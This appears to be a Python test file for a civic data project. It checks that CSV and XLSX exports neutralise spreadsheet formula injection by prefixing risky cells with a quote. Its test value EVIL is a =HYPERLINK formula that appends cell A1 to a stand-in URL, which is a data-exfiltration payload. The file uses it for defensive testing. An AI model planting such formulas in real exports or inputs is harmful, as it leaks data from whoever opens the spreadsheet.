"""Text that a spreadsheet would run (``=HYPERLINK(…)``, ``+``, ``-``, ``@``) leaves every CSV
as text and every XLSX as a text cell (civica.tables.safe_cell / xlsx_append)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from civica.accounts.roles import Role
from civica.tables import frame_csv, safe_cell
from civica.testing.personas import make_user

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"clic")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+52 55 1234 5678", "'+52 55 1234 5678"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("-3.5", "-3.5"),  # a signed number stays a number
        ("Sector Centro", "Sector Centro"),
        (-2, -2),
        (None, None),
    ],
)
def test_formula_prefixes_are_neutralised_and_numbers_kept(value, written):
    assert safe_cell(value) == written


def test_a_sector_named_as_a_formula_leaves_the_csv_as_text(client, territory):
    sector = territory.sectors["09015"]
    sector.name = EVIL
    sector.save()
    analyst = make_user("ana", Role.MUNICIPAL_ANALYST, municipalities=[sector.municipality])
    client.force_login(analyst)
    response = client.get("/territory/municipalities/09015/sectors.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["name"] == "'" + EVIL


def test_an_indicator_named_as_a_formula_is_a_text_cell_in_xlsx(client, territory):
    from civica.monitoring.catalogue import default_catalogue_path, load_indicators_csv
    from civica.monitoring.models import Indicator
    from civica.monitoring.tests.factories import cover, make_activity

    load_indicators_csv(path=default_catalogue_path())
    cover(make_activity(), territory.cuauhtemoc, "direct")
    Indicator.objects.filter(code="CJ-MUN").update(name_es=EVIL, name_en=EVIL)
    client.force_login(make_user("meo", Role.ME_OFFICER, nationwide=True))
    response = client.get("/monitoring/indicators.xlsx?period=FY2023")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
    text = client.get("/monitoring/indicators.csv?period=FY2023").content.decode()
    assert "'" + EVIL.replace('"', '""') in text


def test_a_frame_written_as_csv_neutralises_text_and_column_names():
    import pandas as pd

    frame = pd.DataFrame({"crime": [EVIL, "ROBO"], "count": [-1, 2]})
    text = frame_csv(frame, index=False)
    assert text.splitlines()[1].startswith("\"'=HYPERLINK") and ",-1" in text
